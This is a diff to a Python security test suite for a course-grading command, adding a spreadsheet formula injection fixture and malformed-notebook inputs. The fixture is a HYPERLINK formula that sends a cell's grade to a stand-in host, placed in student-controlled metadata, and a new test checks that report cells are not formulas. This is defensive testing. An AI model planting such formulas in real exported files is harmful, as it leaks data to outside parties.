@@ -529,6 +529,7 @@ def test_check_raw_syscalls_with_ctypes(token: str, listener: TcpListener, canar
 # === 8. course grade ==========================================================================
 
 _BOB_SECRET = "bob-private-" + "7f3c9e21"
+_FORMULA = '=HYPERLINK("https://example.invalid/?grades="&A2,"details")'
 _VICTIM_CODE = f"# {_BOB_SECRET}\ndef sum_evens(numbers):\n    return sum(n for n in numbers if n % 2 == 0)\n"
 
 
@@ -548,7 +549,13 @@ def _bank_notebook(name: str) -> Path:
 class _Class:
     """One `course grade` run over a class of students, most of them hostile."""
 
-    def __init__(self, root: Path, canaries: list[str], codes: dict[str, str] | None = None) -> None:
+    def __init__(
+        self,
+        root: Path,
+        canaries: list[str],
+        codes: dict[str, str] | None = None,
+        raw_files: dict[str, bytes] | None = None,
+    ) -> None:
         from learnflow_agents.tutors.exercise.bank import cell_role
         from learnflow_agents.tutors.exercise.course import release_course
         from learnflow_agents.tutors.exercise.notebooks import read_notebook, write_notebook
@@ -579,13 +586,20 @@ class _Class:
             ),
             "tamperer": attacks.program({"victims": [str(victim)]}, attacks.TAMPER_OTHER_STUDENT),
             "zoe-victim": _VICTIM_CODE,
+            "csv-injector": _VICTIM_CODE,
         }
         for student, code in codes.items():
             notebook = copy.deepcopy(student_notebook)
             for cell in notebook["cells"]:
                 if cell_role(cell) == "starter":
                     cell["source"] = code
+            if student == "csv-injector":
+                # The exercise id comes from the notebook's metadata, which the student controls.
+                notebook.setdefault("metadata", {}).setdefault("learnflow", {})["exercise_id"] = _FORMULA
             write_notebook(notebook, self.submissions / student / "sum-of-evens.ipynb")
+        for student, data in (raw_files or {}).items():
+            (self.submissions / student).mkdir(parents=True, exist_ok=True)
+            (self.submissions / student / "sum-of-evens.ipynb").write_bytes(data)
         self.victim_before = victim.read_bytes() if victim.exists() else b""
         command = (
             shutil.which("learnflow-agents", path=str(Path(sys.executable).parent)) or "learnflow-agents"
@@ -607,6 +621,9 @@ class _Class:
         self.everything = "\n".join([self.done.stdout, self.done.stderr, self.report_text])
         self.loot = decode_loot(self.everything)
         self.canaries = canaries
+
+    def __repr__(self) -> str:
+        return f"<course grade exit={self.done.returncode} rows={sorted(self.rows)}>"
 
     def row(self, student: str) -> dict:
         assert self.done.returncode == 0, f"course grade failed: {self.done.stderr[-500:]}"
@@ -683,12 +700,43 @@ def test_grade_one_students_base_exception_does_not_abort_grading(
         "b-honest": _VICTIM_CODE,
     }
     graded = _Class(tmp_path, canaries, codes)
-    assert graded.done.returncode == 0 and set(graded.rows) == set(codes), (
-        f"one student's KeyboardInterrupt subclass stopped `course grade` (exit {graded.done.returncode}, "
+    exit_code, students = graded.done.returncode, set(graded.rows)
+    assert exit_code == 0 and students == set(codes), (
+        f"one student's KeyboardInterrupt subclass stopped `course grade` (exit {exit_code}, "
         f"rows {sorted(graded.rows)})"
     )
     assert graded.row("a-stopper")["score"] == "0.0000"
     assert graded.row("b-honest")["score"] == "1.0000"
+
+
+def test_grade_report_cells_are_not_spreadsheet_formulas(graded: _Class) -> None:
+    graded.row("honest-partial")
+    with (graded.out / "report.csv").open(encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    formulas = [cell[:40] for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert not formulas, f"student-controlled text reached report.csv as spreadsheet formulas: {formulas}"
+
+
+_SYNTAX_ERROR = "def sum_evens(numbers)\n    return 0\n"
+_MALFORMED = {
+    "deep-json": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
+    "not-an-object": b"[1, 2, 3]",
+    "invalid-utf8": b'\xff\xfe{"cells": []}',
+    "cells-not-a-list": b'{"cells": 5, "metadata": {"learnflow": {"exercise_id": "sum-of-evens"}}}',
+}
+
+
+@pytest.mark.parametrize("kind", sorted(_MALFORMED))
+def test_grade_malformed_submission_does_not_abort_grading(
+    kind: str, tmp_path: Path, canaries: list[str]
+) -> None:
+    graded = _Class(tmp_path, canaries, {"b-other": _SYNTAX_ERROR}, {"a-malformed": _MALFORMED[kind]})
+    exit_code, students = graded.done.returncode, set(graded.rows)
+    assert exit_code == 0 and students == {"a-malformed", "b-other"}, (
+        f"one student's {kind} notebook stopped `course grade` (exit {exit_code}, "
+        f"rows {sorted(graded.rows)}): {graded.done.stderr.strip().splitlines()[-1:]}"
+    )
+    assert graded.row("a-malformed")["score"] == "0.0000"
 
 
 def test_grade_leaks_no_canary(graded: _Class) -> None:
